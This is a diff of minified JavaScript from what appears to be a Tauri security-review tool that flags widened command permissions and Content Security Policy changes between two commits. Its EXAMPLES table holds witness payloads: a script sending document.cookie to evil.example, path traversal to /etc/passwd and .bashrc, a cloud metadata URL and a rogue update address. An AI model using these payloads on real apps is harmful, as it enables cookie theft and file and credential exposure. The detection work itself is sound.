 return new Set(apps.map(({root})=>root)).size<2}function sameFiles(there,here){const names4=entries=>entries.map(({path,id})=>`${id} ${path}`).sort(import_shared_acegos.compareText).
 join(`
 `);return names4(there)===names4(here)}function identityIn({root,config},files){const own=files.filter(({path})=>folderOf(path)===root),isManifest=({path})=>path===
-inFolder(root,"Cargo.toml");return{config:own.find(({path})=>path===config)?.id??"",names:own.filter(file2=>!isManifest(file2)).flatMap(namesIn9),crate:own.filter(
-isManifest).flatMap(crateIn2)}}var TEMPLATE="com.tauri.dev";function namesIn9(file2){const config=parsed6(file2),at2=(...keys)=>pick(config,...keys),identifier=asString(
+inFolder(root,"Cargo.toml");return{config:own.find(({path})=>path===config)?.id??"",names:own.filter(file2=>!isManifest(file2)).flatMap(namesIn10),crate:own.filter(
+isManifest).flatMap(crateIn2)}}var TEMPLATE="com.tauri.dev";function namesIn10(file2){const config=parsed6(file2),at2=(...keys)=>pick(config,...keys),identifier=asString(
 at2("identifier"))??asString(at2("tauri","bundle","identifier")),product=asString(configKey(config,"productName"))??asString(at2("package","productName")),binary=asString(
 configKey(config,"mainBinaryName"));return[...identifier===TEMPLATE?[]:named9("identifier",identifier),...named9("name",product),...named9("program",binary)]}function crateIn2(file2){
 return named9("crate",asString(pick(parsed6(file2),"package","name")))}function named9(kind,name){return name===void 0||name===""?[]:[`${kind} ${name.toLowerCase()}`]}
@@ -9869,24 +9960,24 @@ come[0]);for(const app of right)pairs.push({base:null,head:app,takesOver:null});
 sort((a3,b5)=>rootOf(a3)<rootOf(b5)?-1:1)}function rootOf({base,head}){return(head??base)?.root??""}function withTakeovers(pairs,identityOf10,folders,foundFrom2,turned){
 const there=pairs.flatMap(({base})=>base??[]),gone=pairs.flatMap(({base,head})=>head===null&&base!==null?[base]:[]),found12=foundInPlace(pairs,folders,foundFrom2),
 reasons=(pair,base)=>[because(newlyShared(pair,base,namesOnly,identityOf10)),because(found12.get(pairName(base,pair.head))),because(pair.head===null?void 0:turned(
-base,pair.head)),because(pair.base===null&&gone.includes(base)?`${nameOf7(base)} is gone, and this app is new.`:void 0),because(newlyShared(pair,base,crateOnly,
+base,pair.head)),because(pair.base===null&&gone.includes(base)?`${nameOf8(base)} is gone, and this app is new.`:void 0),because(newlyShared(pair,base,crateOnly,
 identityOf10),!gone.includes(base))].flat();return pairs.flatMap(pair=>{const taken4=there.filter(base=>pair.head!==null&&base!==pair.base).flatMap(base=>{const[
 reason]=reasons(pair,base);return reason===void 0?[]:[{base,head:pair.head,...reason}]});return pair.base===null&&taken4.length>0?taken4:[pair,...taken4]})}function because(takesOver,isBeside=!1){
 return takesOver===void 0?[]:[{takesOver,isBeside}]}var namesOnly=({names:names4})=>names4,crateOnly=({crate:crate2})=>crate2;function newlyShared(pair,other,namesOf7,identityOf10){
 if(pair.head===null)return;const had=pair.base===null?[]:namesOf7(identityOf10("base",pair.base)),theirs=namesOf7(identityOf10("base",other)),shared2=namesOf7(identityOf10(
 "head",pair.head)).find(name2=>theirs.includes(name2)&&!had.includes(name2));if(shared2===void 0)return;const[kind="",...name]=shared2.split(" ");return`This ap\
-p has the ${kind} ${(0,import_shared_acegpst.code)(name.join(" "))}, as ${nameOf7(other)} had before this change.`}function foundInPlace(pairs,folders,foundFrom2){
-const found12=new Map;for(const folder of folders){const[before2,after2]=[foundFrom2("base",folder),foundFrom2("head",folder)];if(before2===void 0||after2===void 0)
-continue;const isSame10=pairs.some(({base,head})=>base===before2&&head===after2),place=folder===""?"at the top of the repository":`in ${(0,import_shared_acegpst.code)(
-folder)}`;isSame10||found12.set(pairName(before2,after2),`The CLI of Tauri, started ${place}, builds this app now, and no longer ${nameOf7(before2)}.`)}return found12}
-function pairName(base,head){return JSON.stringify([base.root,head?.root])}function nameOf7({root}){return root===""?"the app at the top of the repository":`the\
+p has the ${kind} ${(0,import_shared_acegpst.code)(name.join(" "))}, as ${nameOf8(other)} had before this change.`}function foundInPlace(pairs,folders,foundFrom2){
+const found12=new Map;for(const folder of folders){const[before3,after2]=[foundFrom2("base",folder),foundFrom2("head",folder)];if(before3===void 0||after2===void 0)
+continue;const isSame10=pairs.some(({base,head})=>base===before3&&head===after2),place=folder===""?"at the top of the repository":`in ${(0,import_shared_acegpst.code)(
+folder)}`;isSame10||found12.set(pairName(before3,after2),`The CLI of Tauri, started ${place}, builds this app now, and no longer ${nameOf8(before3)}.`)}return found12}
+function pairName(base,head){return JSON.stringify([base.root,head?.root])}function nameOf8({root}){return root===""?"the app at the top of the repository":`the\
  app in ${(0,import_shared_acegpst.code)(root)}`}function withoutRepetition3(compared3){return compared3.map(({app,reviewed})=>{if(app.takesOver===null)return reviewed;
 const own=compared3.filter(each=>each.app.takesOver===null&&each.app.location===app.location),said2=new Set(own.flatMap(each=>each.reviewed.findings).map(findingName)),
 known13=new Set(own.flatMap(each=>each.reviewed.gaps).map(gapName));return{...reviewed,findings:reviewed.findings.filter(finding=>!said2.has(findingName(finding))).
 map(finding=>({...finding,message:`${app.takesOver} ${finding.message}`})),narrowings:[],gaps:reviewed.gaps.filter(gap3=>!known13.has(gapName(gap3)))}})}function findingName({
 rule,key:key3,path,line}){return JSON.stringify([rule,key3,path,line])}function gapName({kind,rests}){return JSON.stringify([kind,rests])}var STARTS5=/\btauri-action\b|\btauri["'\s]+(?:build|bundle|android|ios)\b|\bcargo[- ]tauri\b|\btauri:build\b|\brun\s+(?:tauri|build|release|dist)\b/g,
-SETS_FOLDER=/\b(?:projectPath|working-directory|TAURI_APP_PATH|TAURI_FRONTEND_PATH|cd|pushd)\b|(?:^|\s)(?:--(?:prefix|cwd|dir|cd)|-C)\b/;function turnedBuilds(before2,after2){
-const turned=[...after2.values()].flatMap(file2=>{const was=before2.get(file2.path);return was===void 0||was.id===file2.id?[]:[{was:readingOf2(was),is:readingOf2(
+SETS_FOLDER=/\b(?:projectPath|working-directory|TAURI_APP_PATH|TAURI_FRONTEND_PATH|cd|pushd)\b|(?:^|\s)(?:--(?:prefix|cwd|dir|cd)|-C)\b/;function turnedBuilds(before3,after2){
+const turned=[...after2.values()].flatMap(file2=>{const was=before3.get(file2.path);return was===void 0||was.id===file2.id?[]:[{was:readingOf2(was),is:readingOf2(
 file2)}]}).filter(({was,is})=>is.starts>0&&is.starts<=was.starts);return(base,head)=>{const by=turned.find(({was,is})=>isNamed3(head,is)&&!isNamed3(head,was)&&!isNamed3(
 base,is));return by&&`By ${(0,import_shared_acegpst.code)(by.is.path)} a build makes this app now, and made another one before.`}}function readingOf2({path,text:text3}){
 const lines2=text3.split(`
@@ -9906,7 +9997,7 @@ const ways=folders.flatMap(folder=>foldersOnTheWay(folder,apps)),names4=new Set(
 filter(({path})=>names4.has(path));return readBothSides(base.tree,head.tree,wanted(base),wanted(head))}async function buildsTurned(base,head,apps){if(new Set(apps.
 map(({root})=>root)).size<2)return()=>{};const ids=new Map(base.entries.map(({path,id})=>[path,id])),isChanged=({path,id})=>ids.has(path)&&ids.get(path)!==id,changed=head.
 entries.filter(entry=>isChanged(entry)&&hasNameOfStart(entry.path)).filter(({path})=>apps.some(app=>mayStartBuilds(path,app))),paths3=new Set(changed.map(({path})=>path)),
-before2=base.entries.filter(({path})=>paths3.has(path)),files=await readBothSides(base.tree,head.tree,before2,changed);return turnedBuilds(files.base.files,files.
+before3=base.entries.filter(({path})=>paths3.has(path)),files=await readBothSides(base.tree,head.tree,before3,changed);return turnedBuilds(files.base.files,files.
 head.files)}function namedBy4(app,wanted,files,{entries,listing,contents},changed){if(app===null)return[];const project=projectOf(app,wanted,files,contents),opened2=new Set(
 appReaders.flatMap(reader=>reader.opens?.(project)??[])),names4=[projectFollows(app,project.files,contents),...appReaders.flatMap(reader=>reader.follows?.(project)??
 [])],known13=new Set(wanted.map(({path})=>path)),named12=entries.filter(({path})=>!opened2.has(path)&&names4.some(isNamed6=>isNamed6(path))),looked=appReaders.flatMap(
@@ -9914,11 +10005,11 @@ reader=>reader.looksInto?.(project)??[]),asked4=listing.entries.filter(({path})=
 ...named12,...asked4].filter(({path})=>!known13.has(path))}function comparedBy(app,wanted,files,{contents}){if(app===null)return()=>!1;const project=projectOf(app,
 wanted,files,contents),looked=appReaders.flatMap(reader=>reader.looksInto?.(project)??[]),named12=new Set(appReaders.flatMap(reader=>[...reader.compares?.(project)??
 []]));return path=>withAncestors(path).some(each=>named12.has(each))||looked.some(isLooked=>isLooked(path))}var loaded2=new WeakMap;function projectOf(app,wanted,files,contents){
-const known13=loaded2.get(wanted);if(known13?.files===files)return known13.project;const project=loadProject(app,filesOf2(wanted,files),[],contents);return loaded2.
-set(wanted,{files,project}),project}function filesOf2(wanted,files){return new Map(wanted.flatMap(({path})=>{const file2=files.get(path);return file2===void 0?[]:
-[[path,file2]]}))}async function gather(before2,after2,pairs,changed){await readApps(before2,after2,pairs.map(pair=>wantedOf4(pair,before2,after2)).filter(each=>!untouched(
-each)).map(each=>withCode(each,before2,after2)));const names4=await namedChanges(before2,after2,pairs,changed),{named:named12,read:asked4}=names4,[base,head]=[withNamed(
-before2,named12),withNamed(after2,named12)],anyMoved=[base,head].some(({listing})=>listing.unfollowed.some(({path})=>changed.has(path)));let looked=pairs.map(pair=>wantedOf4(
+const known13=loaded2.get(wanted);if(known13?.files===files)return known13.project;const project=loadProject(app,filesOf3(wanted,files),[],contents);return loaded2.
+set(wanted,{files,project}),project}function filesOf3(wanted,files){return new Map(wanted.flatMap(({path})=>{const file2=files.get(path);return file2===void 0?[]:
+[[path,file2]]}))}async function gather(before3,after2,pairs,changed){await readApps(before3,after2,pairs.map(pair=>wantedOf4(pair,before3,after2)).filter(each=>!untouched(
+each)).map(each=>withCode(each,before3,after2)));const names4=await namedChanges(before3,after2,pairs,changed),{named:named12,read:asked4}=names4,[base,head]=[withNamed(
+before3,named12),withNamed(after2,named12)],anyMoved=[base,head].some(({listing})=>listing.unfollowed.some(({path})=>changed.has(path)));let looked=pairs.map(pair=>wantedOf4(
 pair,base,head)).filter(each=>anyMoved||!untouched(each)||mayNameOneOf(each,changed,named12,[base,head])||comparesOneOf(each,changed,asked4,base,head)).map(each=>withCode(
 each,base,head));const first=await readApps(base,head,looked.map(each=>unread3(each,asked4)));let read11={base:together3(asked4.base,first.base),head:together3(
 asked4.head,first.head)},isCut=!1;for(let round=0;round<MOST_ROUNDS7;round+=1){const{base:there,head:here}=read11,followed2=looked.map(each=>withNamedBy(each,read11,
@@ -9927,10 +10018,10 @@ each,read11)));read11={base:together3(there,more.base),head:together3(here,more.
 read11={base:{...read11.base,gaps:[...read11.base.gaps,...tooFar(looked,"base",read11.base,base)]},head:{...read11.head,gaps:[...read11.head.gaps,...tooFar(looked,
 "head",read11.head,head)]}});const compared3=new Set(looked.flatMap(each=>comparedIn(each,changed,read11,base,head)));return{touched:looked.filter(each=>anyMoved||
 isCut||!untouched(each)||runsTooMuch(each.pair.head,read11.head.files)||comparesOneOf(each,changed,read11,base,head)).map(({pair})=>pair),...read11,names:names4,
-isCompared:path=>compared3.has(path)}}function comparedIn({pair,base:there,head:here},changed,{base,head},before2,after2){const wanted=[comparedBy(pair.base,there,
-base.files,before2),comparedBy(pair.head,here,head.files,after2)];return[...changed].filter(path=>wanted.some(isCompared=>isCompared(path)))}function comparesOneOf(each,changed,read11,before2,after2){
-return comparedIn(each,changed,read11,before2,after2).length>0}function withNamedBy({pair,base,head},read11,before2,after2,changed){return{pair,base:withMore2(base,
-namedBy4(pair.base,base,read11.base.files,before2,changed)),head:withMore2(head,namedBy4(pair.head,head,read11.head.files,after2,changed))}}function withMore2(wanted,more){
+isCompared:path=>compared3.has(path)}}function comparedIn({pair,base:there,head:here},changed,{base,head},before3,after2){const wanted=[comparedBy(pair.base,there,
+base.files,before3),comparedBy(pair.head,here,head.files,after2)];return[...changed].filter(path=>wanted.some(isCompared=>isCompared(path)))}function comparesOneOf(each,changed,read11,before3,after2){
+return comparedIn(each,changed,read11,before3,after2).length>0}function withNamedBy({pair,base,head},read11,before3,after2,changed){return{pair,base:withMore2(base,
+namedBy4(pair.base,base,read11.base.files,before3,changed)),head:withMore2(head,namedBy4(pair.head,head,read11.head.files,after2,changed))}}function withMore2(wanted,more){
 return more.length===0?wanted:[...wanted,...more]}function wantedOf4(pair,{entries:there},{entries:here}){return{pair,base:wantedBy(pair.base,there),head:wantedBy(
 pair.head,here)}}var MOST_ROUNDS7=20;function tooFar(looked,side,{files,gaps},of2){const failed2=new Set(gaps.map(({path})=>path)),left2=looked.flatMap(each=>each[side]).
 filter(({path})=>!files.has(path)&&!failed2.has(path));return oncePerPath(left2).map(({path})=>{const message=`${(0,import_shared_acegpst.code)(path)} is named \
@@ -9954,13 +10045,14 @@ known13)??known13.map(foldedName);return foldedOf.set(known13,folded5),folded5}v
 const[,prefix,extension=""]=SHORT2.exec(name.toUpperCase())??[];if(prefix===void 0)return!1;const dot=long.lastIndexOf("."),[base,rest2]=dot>0?[long.slice(0,dot),
 long.slice(dot+1)]:[long,""],plain8=base.replace(/[. ]/g,"").toUpperCase();return extension!==rest2.slice(0,3).toUpperCase()?!1:plain8.startsWith(prefix)||/^.{2}[0-9A-F]{4}$/.
 test(prefix)&&plain8.startsWith(prefix.slice(0,2))}function listingGaps(listing,apps,contents,targets3){const{gaps,unfollowed}=listing,left2=gaps.flatMap(gap3=>gap3.
-path===""||apps.some(app=>mayHide(gap3.path,app))?[{...gap3,blocking:!0}]:gap3.kind==="truncated"?[gap3]:[]),hiding2=unfollowed.flatMap(link2=>{const app=apps.find(
-each=>mayHide(link2.path,each));return app===void 0?[]:[notFollowed(link2,app,contents,targets3)]});return[...left2,...hiding2,...foldedGaps(listing,apps)]}function hidingLinks({
-unfollowed},apps){return unfollowed.filter(({path})=>apps.some(app=>mayHide(path,app)))}var FILLED_BY_TOOLS=/^(?:target|node_modules|icons)(?:\/|$)/;function mayHide(path,app){
-const inside=below(app.root,path);return inside!==void 0?!FILLED_BY_TOOLS.test(inside):path===app.root||app.root.startsWith(`${path}/`)?!0:isWanted(path,app)}function notFollowed(link2,app,contents,targets3){
-const{path,what,id}=link2,target=targets3.get(path),there=target===void 0?null:joined(folderOf(path),target),rests=(0,import_shared_acegos.wordsOf)(what,below(app.
-root,path)??path,id,there===null?"":contents.at(there)),message=`The ${what} was not followed, so what it leads to is not known.`;return(0,import_shared_acegos.gapIn)(
-path,{kind:"not-followed",rests,message,cause:causeOf(link2)})}function foldedGaps({entries,unfollowed},apps){const all=[...entries,...unfollowed],disguises=new Set(
+path===""||apps.some(app=>mayHide(gap3.path,app))?[{...gap3,blocking:!0}]:gap3.kind==="truncated"?[gap3]:[]),hiding2=unfollowed.flatMap(link2=>{const root=link2.
+path===import_shared_acegps.POLICY_PATH?"":apps.find(app=>mayHide(link2.path,app))?.root;return root===void 0?[]:[notFollowed(link2,root,contents,targets3)]});return[
+...left2,...hiding2,...foldedGaps(listing,apps)]}function hidingLinks({unfollowed},apps){return unfollowed.filter(({path})=>path===import_shared_acegps.POLICY_PATH||
+apps.some(app=>mayHide(path,app)))}var FILLED_BY_TOOLS=/^(?:target|node_modules|icons)(?:\/|$)/;function mayHide(path,app){const inside=below(app.root,path);return inside!==
+void 0?!FILLED_BY_TOOLS.test(inside):path===app.root||app.root.startsWith(`${path}/`)?!0:isWanted(path,app)}function notFollowed(link2,root,contents,targets3){const{
+path,what,id}=link2,target=targets3.get(path),there=target===void 0?null:joined(folderOf(path),target),rests=(0,import_shared_acegos.wordsOf)(what,below(root,path)??
+path,id,there===null?"":contents.at(there)),message=`The ${what} was not followed, so what it leads to is not known.`;return(0,import_shared_acegos.gapIn)(path,
+{kind:"not-followed",rests,message,cause:causeOf(link2)})}function foldedGaps({entries,unfollowed},apps){const all=[...entries,...unfollowed],disguises=new Set(
 [...KNOWN_NAMES,...apps.flatMap(({root})=>root.split("/"))].flatMap(otherThan)),odd=all.flatMap(each=>{const folded5=foldedPath(each.path);return folded5===each.
 path&&!each.path.split("/").some(name=>disguises.has(name))?[]:[{...each,folded:folded5}]}),twins=Map.groupBy(odd,({folded:folded5})=>folded5),plain8=new Map(all.
 flatMap(({path})=>twins.has(foldedPath(path))?[[foldedPath(path),path]]:[]));return apps.flatMap(app=>{const known13=[...KNOWN_NAMES,...app.root.split("/")];return odd.
@@ -10031,13 +10123,13 @@ was,is,path).filter(({key:key3})=>!isAmong2(read11,key3)&&!isAmong2(irrelevant,k
 "."),at2))}function unreadSetting(name,at2){const message=`${(0,import_shared_acegpst.code)(name)} changed. What it does isn't judged yet.`;return(0,import_shared_acegos.gapAt)(
 at2,{kind:"not-covered",rests:(0,import_shared_acegos.wordsOf)(at2.path,name),message,blocking:!1})}function parsed7(file2){const result2=file2&&parseFile(file2,
 {json5:!0});return result2?.ok?result2.value:void 0}var DECIDES_BUILD=/\b(?:capabilities|permissions)\b(?:[/\\'"`]|$)|\btauri(?:\.\w+)?\.conf\b|\bTauri\.toml\b|\bTAURI_CONFIG\b|\bsrc-tauri[/\\]+build\.rs\b/,
-OF_TAURI2=/\btauri(?:\.\w+)?\.conf\b|\bTauri\.toml\b|\bTAURI_CONFIG\b|\bsrc-tauri[/\\]+(?:build\.rs|capabilities|permissions)\b/g,ANY_OF_TAURI=new RegExp(DECIDES_BUILD,
+OF_TAURI3=/\btauri(?:\.\w+)?\.conf\b|\bTauri\.toml\b|\bTAURI_CONFIG\b|\bsrc-tauri[/\\]+(?:build\.rs|capabilities|permissions)\b/g,ANY_OF_TAURI=new RegExp(DECIDES_BUILD,
 "g"),WRITES5=/write|append|copy|\bcp(?:Sync)?\b|rename|move|symlink|\blink|outputJson|save|dump|open\s*\(|exec|spawn|fork|system|popen|subprocess|\brun\b|environ|process\.env|\bENV\b|`/i;
 function decidingChanges(changed,apps,packages,makesNothing,isRun){return[...new Set([...changed.base.files.keys(),...changed.head.files.keys()])].flatMap(path=>{
 const[was,is]=[changed.base.files.get(path),changed.head.files.get(path)];return[...is===void 0||makesNothing(path)?[]:mayWrite(was,is,isRun(path)),...isOfFrontend2(
 path,apps,packages)&&!isTest(path)?policyChanged(path,was,is):[]]})}function mayWrite(was,is,isRun){if(!WRITES5.test(is.text))return[];const known13=new Set(linesOf5(
 was,ANY_OF_TAURI).map(({text:text3})=>text3)),named12=ofLong=>linesOf5(is,ofLong).filter(({text:text3})=>DECIDES_BUILD.test(text3)),fresh=named12(ANY_OF_TAURI).
-find(({text:text3})=>!known13.has(text3)),first=fresh??(isRun?named12(OF_TAURI2)[0]:void 0);if(first===void 0)return[];const message=`This program ${fresh===void 0?
+find(({text:text3})=>!known13.has(text3)),first=fresh??(isRun?named12(OF_TAURI3)[0]:void 0);if(first===void 0)return[];const message=`This program ${fresh===void 0?
 "changed, and names":"newly names"} what Tauri reads when the app is built, and may write it: look at what it does with ${(0,import_shared_acegpst.code)(DECIDES_BUILD.
 exec(first.text)?.[0].replace(/[/\\'"`]+$/,"")??"")}.`,rests=(0,import_shared_acegos.wordsOf)("names what is built",fresh===void 0?(0,import_shared_acegos.contentOf)(
 is):first.text);return[(0,import_shared_acegos.gapAt)({path:is.path,line:first.line},{kind:"dynamic",rests,message})]}function isComment3(line,path){return/^(?:\/\/|#!)/.
@@ -10045,13 +10137,13 @@ test(line)||line.startsWith("#")&&!isCode2(path)?!0:/^\*(?:\s+[^(]|\/?$)/.test(l
 function linesOf5(file2,ofLong){const counts3=new Map;return(file2?.text??"").split(`
 `).flatMap((written6,i2)=>{const text3=written6.trim();return isComment3(text3,file2?.path??"")?[]:text3.length<=LONGEST_LINE7?[{text:text3,line:i2+1}]:[...text3.
 matchAll(ofLong)].map(([word2])=>{const count=(counts3.get(word2)??0)+1;return counts3.set(word2,count),{text:`${word2} ${count}`,line:i2+1}})})}var POLICY2=/content-?security-?policy/gi,
-AROUND=1500;function policyChanged(path,was,is){const[before2,after2]=[policiesIn3(was),policiesIn3(is)];if(before2.length===0||before2.join(`
+AROUND=1500;function policyChanged(path,was,is){const[before3,after2]=[policiesIn3(was),policiesIn3(is)];if(before3.length===0||before3.join(`
 `)===after2.join(`
 `))return[];const message=after2.length===0?"A Content Security Policy stood in this code, from which pages are made, and is gone: look at what governs the page\
 s now, or give Tauri a `csp`.":"The Content Security Policy in this code, from which pages are made, changed, and can't be compared before they are built: look \
 at what it lets in, or give Tauri a `csp`.";return[(0,import_shared_acegos.gapIn)(path,{kind:"not-checked",rests:(0,import_shared_acegos.wordsOf)("policy in cod\
 e",after2),message})]}function policiesIn3(file2){const text3=file2?.text??"";return[...text3.matchAll(POLICY2)].map(({index})=>nearby2(text3,index)??file2?.id??
-"").sort()}function nearby2(text3,index){const from=Math.max(index-AROUND,0),before2=text3.slice(from,index),start=from+Math.max(before2.lastIndexOf("<"),before2.
+"").sort()}function nearby2(text3,index){const from=Math.max(index-AROUND,0),before3=text3.slice(from,index),start=from+Math.max(before3.lastIndexOf("<"),before3.
 lastIndexOf(`
 `),from===0?-1:0),rest2=text3.slice(index,index+AROUND),found12=/\/>|>\s*\n|\n\s*\n|;\s*\n/.exec(rest2)?.index;if(found12===void 0&&index+AROUND<text3.length)return;
 const end=found12??rest2.length;return text3.slice(start+1,index+end).replace(/\s+/g," ").trim()}function isOfFrontend2(path,apps,packages){const own=nearest(folderOf(
@@ -10084,85 +10176,85 @@ isTextOrNull(path)&&(isTextOrNull(opener)||typeof opener=="boolean")}function ex
 ({scope})=>scope===null?[]:[scope]),words4=list=>distinct3(scopes.flatMap(scope=>scope[list].map(textOf8)));return{pages:distinct3(change2.pages.map(pageText)),
 commands:distinct3(change2.commands),platforms:(0,import_shared_aceps.platformsOf)(change2.platforms),...scopes.length===0?{}:{allow:words4("allow"),deny:words4(
 "deny")},...elsewhere(grants,change2.commands,head),reads:distinct3(grants.flatMap(readingOf3))}}function grantsOf7({capability,permissions:permissions2,commands:commands2},head){
-const called3=new Set(commands2);return[...new Set(permissions2)].flatMap(permission2=>byPermission(head).get(permission2)??[]).filter(grant2=>grant2.capability===
-capability).filter(({effect,command:command2})=>effect==="scope"||effect==="allow"&&called3.has(command2))}var indexes2=new WeakMap;function byPermission(head){
-const known13=indexes2.get(head);if(known13!==void 0)return known13;const index=Map.groupBy(head,({permission:permission2})=>permission2);return indexes2.set(head,
-index),index}function elsewhere(own,commands2,head){const[called3,plugins]=[new Set(commands2),new Set(own.map(({plugin})=>plugin))],words4=[...new Set(head).difference(
-new Set(own))].flatMap(({scope,effect,command:command2,plugin})=>scope===null||scope.deny.length===0?[]:(effect==="scope"?plugins.has(plugin):called3.has(command2))?
-scope.deny.map(textOf8):[]);return words4.length===0?{}:{[import_shared_aces.DENIED_ELSEWHERE]:distinct3(words4)}}function readingOf3({plugin,matching:matching3}){
-return matching3.kind==="none"?[]:[`${plugin} ${JSON.stringify(matching3)}`]}function grantsWithin(extent,head){const{pages=[],commands:commands2=[],platforms=[],
-allow:allow2,deny=[],reads:reads2=[]}=extent,kept=extent[import_shared_aces.DENIED_ELSEWHERE]??[];if(allow2===void 0&&kept.length>0)return[];const on3=(0,import_shared_aceps.platformSet)(
-...platforms.filter(import_shared_aceps.isPlatform)),[called3,read11]=[new Set(commands2),new Set(reads2)];return head.filter(({effect,command:command2})=>effect===
-"allow"&&called3.has(command2)).filter(grant2=>readingOf3(grant2).every(reading=>read11.has(reading))).flatMap(grant2=>{const scope=allow2===void 0?null:scopeOf5(
-allow2,[...deny,...kept],grant2.at);return pages.map(page=>({...grant2,...audienceOf(page,grant2),platforms:grant2.platforms&on3,scope}))})}function scopeOf5(allow2,deny,at2){
-const entries=texts2=>texts2.map(text3=>({...entryOf6(text3),text:text3,at:at2}));return{allow:entries(allow2),deny:entries(deny)}}function pageText({kind,label,
-from}){const where=from.kind==="site"?` at ${from.url}`:from.kind==="app-not-site"?", own pages":"";return`${kind} ${label}${where}`}function audienceOf(page,{at:at2,
-context:context2}){const[,kind,label="",url]=/^(window|webview) (.*?)(?:, own pages| at (\S+))?$/.exec(page)??[],pattern={text:label,at:at2},from=url===void 0?{
-kind:"local"}:{kind:"remote",url:{text:url,at:at2},...context2.kind==="remote"&&takenForLocal2(context2)};return{windows:kind==="window"?[pattern]:[],webviews:kind===
-"webview"?[pattern]:[],context:from}}function takenForLocal2({takenForLocal:takenForLocal3}){return takenForLocal3===void 0?{}:{takenForLocal:takenForLocal3}}function distinct3(words4){
-return[...new Set(words4)].sort()}var COMMAND_POWERS=["run","update","script","change-files","read-files","sql","network","window"],RULE_OF_POWER={run:"commands\
-/unchecked-program",update:"commands/unchecked-url",script:"commands/unchecked-program","change-files":"commands/unchecked-path","read-files":"commands/unchecke\
-d-path",sql:"commands/unchecked-program",network:"commands/unchecked-url",window:"commands/unchecked-url"};function extentOf2(change2){if(change2.rule==="comman\
-ds/exposed")return{commands:change2.commands.map(({command:command2,inputs})=>`${command2}(${inputs.map(({name})=>name).join(", ")})`).sort()};const flows=[change2.
-flow,...change2.also].map(({power,input})=>`${power} by ${input}`);return{commands:[change2.command],callers:[change2.callers],does:[...new Set(flows)].sort()}}
-function pairedCommands(base,head){const byName3=new Map(base.map(grant2=>[grant2.command,grant2])),names4=new Set(head.map(({command:command2})=>command2)),gone=Map.
-groupBy(base.filter(({command:command2})=>!names4.has(command2)),likeness2);return new Map(head.flatMap(grant2=>{const was=byName3.get(grant2.command)??gone.get(
-likeness2(grant2))?.shift();return was===void 0?[]:[[grant2,was]]}))}function likeness2({door,inputs,flows,callers}){const does=flows.map(({power,checks})=>`${power}\
- ${checks.length>0}`);return JSON.stringify([door,inputs.map(({name,type})=>[name,type]),[...new Set(does)].sort(),callers])}var EXAMPLES={run:"/usr/bin/env",update:"\
-https://evil.example/latest.json",script:"fetch('https://evil.example/' + document.cookie)","change-files":"../../../../home/user/.bashrc","read-files":"../../.\
-./../etc/passwd",sql:"SELECT * FROM sqlite_master",network:"http://169.254.169.254/latest/meta-data/",window:"https://evil.example/"};function commandWitness(door,command2,{
-input,power}){const example=EXAMPLES[power],witness=witnessOf(command2,payloadOf(input,example)),name=command2.slice(door.length+1),handed=(0,import_shared_acegpst.visible)(
-JSON.stringify(example));switch(door){case"command":return witness;case"event":return{...witness,text:`emit(${(0,import_shared_acegpst.visible)(JSON.stringify(name))}\
-, ${handed})`};case"scheme":return{...witness,text:`fetch(${(0,import_shared_acegpst.visible)(JSON.stringify(`${name}://localhost/`))} + ${handed})`};case"handl\
-er":return{...witness,text:`${(0,import_shared_acegpst.visible)(name)} is told of an address with ${handed}`}}}function exposedWitness({command:command2,inputs}){
-return witnessOf(command2,Object.fromEntries(inputs.map(({name})=>[name,"\u2026"])))}function witnessOf(command2,payload){const shown4=Object.keys(payload).length===
-0?"":`, ${(0,import_shared_acegpst.visible)(JSON.stringify(payload))}`;return{kind:"invoke",text:`invoke(${(0,import_shared_acegpst.visible)(JSON.stringify(command2))}${shown4}\
-)`,platform:"any",window:"main",webview:"main",origin:"local",command:command2,payload}}function payloadOf(input,example){const[name="",...fields3]=input.split(
-"."),inner=fields3.length===0?example:payloadOf(fields3.join("."),example),key3=name.replace(/(?:\[\])+$/,"");return{[key3]:name===key3?inner:[inner]}}var commandComparison={
-domain:"commands",compare(base,head){const before2=pairedCommands(base??[],head),unchecked=head.flatMap(grant2=>uncheckedIn(before2.get(grant2),grant2,base===null)),
-told3=new Set(unchecked.map(({command:command2})=>command2)),left2=pairedCommands(head,base??[]);return{changes:[...unchecked,...exposed(before2,head,told3,base===
-null),...(base??[]).flatMap(grant2=>uncheckedIn(left2.get(grant2),asFarAs(grant2),!1).map(change2=>({...change2,direction:"narrowed"})))],gaps:[]}},allows(grants,change2){
-const own=grants.filter(({command:command2})=>command2===change2.witness.command);if(change2.rule==="commands/exposed"){const names4=Object.keys(change2.witness.
-payload);return own.some(({inputs})=>names4.every(name=>inputs.some(input=>input.name===name)))}const{power}=change2.flow;return own.some(({flows})=>flows.some(
-flow=>flow.power===power&&flow.checks.length===0))},extentOf:extentOf2},CALLS_AT_HEAD=3;function asFarAs(grant2){return{...grant2,flows:grant2.flows.filter(({steps})=>steps<=
-CALLS_AT_HEAD)}}function uncheckedIn(before2,grant2,appIsNew){const had=new Set((before2?.flows??[]).filter(isUnchecked).map(({power})=>power)),news=grant2.flows.
-filter(flow=>isUnchecked(flow)&&!had.has(flow.power)).toSorted(byWorst),lostOf2=({power})=>[...new Set((before2?.flows??[]).filter(flow=>flow.power===power).flatMap(
-({checks})=>checks))];return[...Map.groupBy(news,flow=>lostOf2(flow).length>0?"commands/check-removed":RULE_OF_POWER[flow.power])].map(([rule,[flow,...also]])=>changeOf13(
-rule,grant2,flow,also));function changeOf13(rule,{door,command:command2,callers},flow,also){const powers=[...new Set([flow,...also].map(({power})=>power))];return{
-domain:"commands",direction:"widened",rule,door,command:command2,callers,appIsNew,isNew:before2===void 0,flow,also,lost:lostOf2(flow),at:flow.at,witness:commandWitness(
-door,command2,flow),identity:JSON.stringify([rule,command2,powers])}}}function isUnchecked({checks}){return checks.length===0}function byWorst(a3,b5){return COMMAND_POWERS.
-indexOf(a3.power)-COMMAND_POWERS.indexOf(b5.power)||a3.steps-b5.steps||a3.at.line-b5.at.line}function exposed(before2,head,told3,appIsNew){const commands2=head.
-flatMap(grant2=>{if(grant2.door!=="command")return[];const known13=before2.get(grant2),names4=new Set(known13?.inputs.map(({name})=>name)),inputs=grant2.inputs.
-filter(({name,isText:isText2})=>known13===void 0||isText2&&!names4.has(name));if(told3.has(grant2.command)||known13!==void 0&&inputs.length===0)return[];const{command:command2,
-at:at2}=grant2;return[{command:command2,isNew:known13===void 0,inputs,checked:grant2.flows.filter(flow=>!isUnchecked(flow)),at:at2}]}),[first]=commands2;if(first===
-void 0)return[];const callers=head.find(({command:command2})=>command2===first.command)?.callers??"own-pages";return[{domain:"commands",direction:"widened",rule:"\
